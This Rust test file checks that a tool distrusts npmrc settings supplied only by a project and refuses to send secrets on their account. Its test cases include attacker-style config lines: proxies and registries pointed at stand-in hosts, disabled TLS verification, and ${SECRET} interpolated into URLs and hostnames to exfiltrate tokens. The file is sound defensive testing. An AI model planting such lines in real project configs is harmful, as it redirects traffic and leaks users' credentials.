use crate::config::testing::{Site, problem};
use crate::config::{Config, Given, Source};
use crate::secret::Secret;

const EVIL: &str = "http://127.0.0.1:9/";

/// What is not trusted, and what of it would be sent.
fn untrusted(site: &Site) -> Vec<(String, bool)> {
    let settings = site.settings().expect("they can be used");
    settings.untrusted.into_iter().map(|steering| (steering.key, steering.sends.is_some())).collect()
}

fn keys(site: &Site) -> Vec<String> {
    untrusted(site).into_iter().map(|(key, _)| key).collect()
}

#[test]
fn what_only_the_project_says_is_not_trusted() {
    let cases: [(&str, &[&str]); 24] = [
        ("", &[]),
        ("registry=http://127.0.0.1:9/", &["registry"]),
        ("registry=https://registry.example", &[]),
        ("registry=https://REGISTRY.example:443/", &[]),
        ("proxy=http://evil.example/", &["proxy"]),
        ("https-proxy=http://evil.example/", &["https-proxy"]),
        ("noproxy=registry.example", &["noproxy"]),
        ("proxy=null", &[]),
        ("strict-ssl=false", &["strict-ssl"]),
        ("strict-ssl=0", &["strict-ssl"]),
        ("strict-ssl", &[]),
        ("strict-ssl=true", &[]),
        ("use-system-ca=true", &["use-system-ca"]),
        ("use-system-ca=false", &[]),
        ("cafile=ca.pem", &["cafile"]),
        ("ca=null", &[]),
        ("userconfig=chosen", &["registry", "userconfig"]),
        ("globalconfig=chosen", &["globalconfig"]),
        ("globalconfig=nowhere", &[]),
        ("prefix=pre", &["prefix"]),
        ("prefix=nowhere", &[]),
        ("fetch-retries=1\nscope=@x\njson=true", &[]),
        ("//registry.example/:_authToken=literal", &[]),
        ("//other.example/:_authToken=${SECRET}", &[]),
    ];
    for (npmrc, expected) in cases {
        let site = Site::new()
            .user("registry=https://registry.example/\n//registry.example/:_authToken=mine")
            .file("project/ca.pem", include_str!("../../../__test__/fixtures/tls/ca.pem"))
            .file("project/chosen", "registry=https://registry.example/\n//registry.example/:_authToken=theirs")
            .file("project/pre/etc/npmrc", "")
            .project(npmrc)
            .var("SECRET", "s3cret");
        assert_eq!(keys(&site), expected, "{npmrc}");
        assert_eq!(keys(&site.flag("trust-project-config", "true")), [""; 0], "{npmrc}");
    }
}

#[test]
fn a_user_file_that_the_project_hides_is_named() {
    let site = || Site::new().project("userconfig=nowhere");
    assert_eq!(keys(&site()), [""; 0]);
    assert_eq!(keys(&site().user("registry=https://registry.example/")), ["userconfig"]);
    // One file for both leaves the user's out, too.
    assert_eq!(keys(&Site::new().project("userconfig=.npmrc")), ["userconfig"]);
}

#[test]
fn what_the_person_says_too_is_trusted() {
    let npmrc = "registry=http://127.0.0.1:9/\nproxy=http://evil.example/\nstrict-ssl=false";
    let site = || Site::new().project(npmrc);
    assert_eq!(keys(&site()), ["registry", "proxy", "strict-ssl"]);
    assert_eq!(keys(&site().flag("registry", EVIL)), ["proxy", "strict-ssl"]);
    assert_eq!(keys(&site().var("npm_config_registry", EVIL)), ["proxy", "strict-ssl"]);
    assert_eq!(keys(&site().user("registry=http://127.0.0.1:9")), ["proxy", "strict-ssl"]);
    let all = site().user("strict-ssl=false\nproxy=http://evil.example/").flag("registry", "https://good.example/");
    assert_eq!(keys(&all), [""; 0]);
    // What comes back through npm is still the project's.
    let by_npm = site().var("npm_command", "exec").var("npm_config_registry", EVIL);
    assert_eq!(keys(&by_npm), ["registry", "proxy", "strict-ssl"]);
}

#[test]
fn variables_in_the_projects_credentials_are_sent_only_with_trust() {
    let credentials = |npmrc: &str| Site::new().var("SECRET", "s3cret").var("HOST", "127.0.0.1:9").project(npmrc);
    let token = "//127.0.0.1:9/:_authToken";
    let cases = [
        (format!("{token}=${{SECRET}}"), true),
        (format!("{token}=npm_${{SECRET?}}"), true),
        ("//${HOST}/:_authToken=literal".to_owned(), true),
        (format!("{token}=\\${{SECRET}}"), false),
        (format!("{token}=literal"), false),
        ("//127.0.0.1:9/:username=${SECRET}\n//127.0.0.1:9/:_password=cGFzcw==".to_owned(), true),
    ];
    for (npmrc, sends) in cases {
        let site = credentials(&npmrc).user("registry=http://127.0.0.1:9/");
        assert_eq!(untrusted(&site).iter().any(|(key, sent)| key.starts_with("//") && *sent), sends, "{npmrc}");
        assert_eq!(keys(&credentials(&npmrc).flag("registry", EVIL)), [""; 0], "{npmrc}");
    }
    // A proxy of the project's would see it.
    let site = credentials(&format!("{token}=${{SECRET}}\nproxy=http://evil.example/")).flag("registry", EVIL);
    assert_eq!(keys(&site), ["proxy", token]);
    let by_user = Site::new().var("SECRET", "s3cret").user(&format!("{token}=${{SECRET}}")).flag("registry", EVIL);
    assert_eq!(keys(&by_user), [""; 0]);
}

#[test]
fn variables_in_what_is_sent_are_refused_in_the_projects_files() {
    let lines = [
        "registry=http://127.0.0.1:9/${SECRET}/",
        "proxy=http://${SECRET}.evil.example/",
        "user-agent=${SECRET}",
        "scope=${SECRET?}",
        "userconfig=${SECRET}",
        "globalconfig=${SECRET}",
        "prefix=/${SECRET}",
    ];
    for line in lines {
        let message = problem(Site::new().var("SECRET", "s3cret").project(line).settings());
        let key = line.split('=').next().expect("a key");
        assert!(message.starts_with("no secret is sent because a project says so"), "{line}: {message}");
        assert!(message.contains(key) && message.contains("`SECRET`") && !message.contains("s3cret"), "{message}");
        let trusted = Site::new().var("SECRET", "s3cret").project(line).flag("trust-project-config", "true");
        assert!(trusted.settings().is_ok(), "{line}");
        assert!(Site::new().var("SECRET", "s3cret").user(line).settings().is_ok(), "{line}");
    }
    // What is only judged is not shown.
    for line in ["fetch-timeout=${SECRET}", "strict-ssl=${SECRET}", "auth-type=${SECRET}", "cafile=${SECRET}"] {
        let message = problem(Site::new().var("SECRET", "s3cret").project(line).settings());
        assert!(message.contains("${SECRET}…") && !message.contains("s3cret"), "{line}: {message}");
    }
    // npm has put the value in already.
    let exported = Site::new()
        .project(lines[0])
        .var("npm_command", "exec")
        .var("npm_config_registry", "http://127.0.0.1:9/s3cret/");
    let message = problem(exported.settings());
    assert!(message.contains("`registry`") && !message.contains("s3cret"), "{message}");
}

#[test]
fn the_calls_own_token_does_not_follow_the_project() {
    let settings = |site: Site| {
        let auth_token = Some(Secret::new("t"));
        let given = Given { source: Source::Option, values: Vec::new(), auth_token };
        let settings = Config::load(&site.env(), given).and_then(|config| config.settings());
        settings.expect("they can be used").untrusted
    };
    let untrusted = settings(Site::new().project("registry=http://127.0.0.1:9/"));
    assert_eq!(untrusted.len(), 1);
    assert!(untrusted[0].sends.is_some());
    assert!(settings(Site::new().user("registry=http://127.0.0.1:9/")).is_empty());
}

#[test]
fn stored_credentials_are_shown_to_nobody_whom_only_the_project_lets_in() {
    let https = "https://registry.example/";
    let http = "http://127.0.0.1:9/";
    let cases = [
        (https, "strict-ssl=false", true),
        (https, "cafile=ca.pem", true),
        (https, "https-proxy=http://evil.example/", false),
        (https, "use-system-ca=true", true),
        (https, "use-system-ca=false", false),
        (https, "strict-ssl=false\n//registry.example/:_authToken=theirs", false),
        (http, "proxy=http://evil.example/", true),
        (http, "strict-ssl=false", false),
        (http, "proxy=http://evil.example/\n//127.0.0.1:9/:_authToken=theirs", false),
    ];
    for (registry, npmrc, sends) in cases {
        let credentials = "//registry.example/:_authToken=mine\n//127.0.0.1:9/:_authToken=mine";
        let site = Site::new()
            .user(&format!("registry={registry}\n{credentials}"))
            .file("project/ca.pem", include_str!("../../../__test__/fixtures/tls/ca.pem"))
            .project(npmrc);
        assert_eq!(untrusted(&site).iter().any(|(_, sent)| *sent), sends, "{registry} {npmrc}");
    }
}

#[test]
fn trust_comes_from_the_person_alone() {
    let line = "trust-project-config=true";
    for site in [Site::new().project(line), Site::new().user(line), Site::new().global(line)] {
        let message = problem(site.settings());
        assert!(message.contains("it counts only as a flag, an option or a variable"), "{message}");
    }
    let exported = Site::new().project(line).var("npm_command", "exec").var("npm_config_trust_project_config", "true");
    assert!(problem(exported.settings()).contains("where a package manager puts what the project's"));
    let steered = || Site::new().project("strict-ssl=false");
    assert_eq!(keys(&steered().var("npm_config_trust_project_config", "true")), [""; 0]);
    assert_eq!(keys(&steered().user("trust-project-config=false")), ["strict-ssl"]);
}
